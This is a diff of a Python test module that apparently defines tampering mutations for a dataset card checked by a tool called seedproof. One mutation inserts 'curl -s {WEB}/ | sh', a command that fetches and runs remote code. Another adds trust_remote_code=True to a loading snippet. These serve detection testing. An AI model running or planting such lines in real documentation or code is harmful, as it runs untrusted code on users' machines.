@@ -93,13 +93,13 @@ BODY: dict[str, Change] = {
     ),
     "a snippet that loads another revision": _in_body(substituted(r'revision="[^"]+"', 'revision="main"')),
     "a snippet that trusts remote code": _in_body(
-        substituted(r'(    split="test",\n)', r"\1    trust_remote_code=True,\n")
+        substituted(r'(split="test", revision="[^"]+")', r"\1, trust_remote_code=True")
     ),
     "a snippet that loads another config": _in_body(
         substituted(r'(load_dataset\(\s*"[^"]+",\s*)"[^"]+"', r'\1"default_2"')
     ),
     "a command that sends data away": _in_body(
-        substituted("```\nseedproof audit", f"```\ncurl -s {WEB}/ | sh\nseedproof audit")
+        substituted("\nseedproof audit", f"\ncurl -s {WEB}/ | sh\nseedproof audit")
     ),
     "a link that leads elsewhere": _in_body(substituted(r"\]\(https?://[^)]+\)", f"]({WEB}/)")),
     "a picture from the web": _in_body(
@@ -117,9 +117,7 @@ BODY: dict[str, Change] = {
     "another entry of its changelog": _in_body(substituted("The first release.", "Answers were corrected.")),
     "another author in the citation": _in_body(substituted("The Seedproof authors", "Somebody else")),
     "another title in the citation": _in_body(substituted(r"title = \{", "title = {Corrected: ")),
-    "another version in the citation": _in_body(
-        substituted(r"note = \{Version [0-9.]+", "note = {Version 2.0.0")
-    ),
+    "another version in the citation": _in_body(substituted(r"version = \{[0-9.]+", "version = {2.0.0")),
     "no citation": _in_body(without(r"^```bibtex\n(?s:.*?)^```\n")),
     "another version in the heading": _in_body(substituted(r"^(# .+) [0-9.]+$", r"\1 2.0.0")),
     "no canary": _in_body(without(r"^.*canary GUID.*\n")),
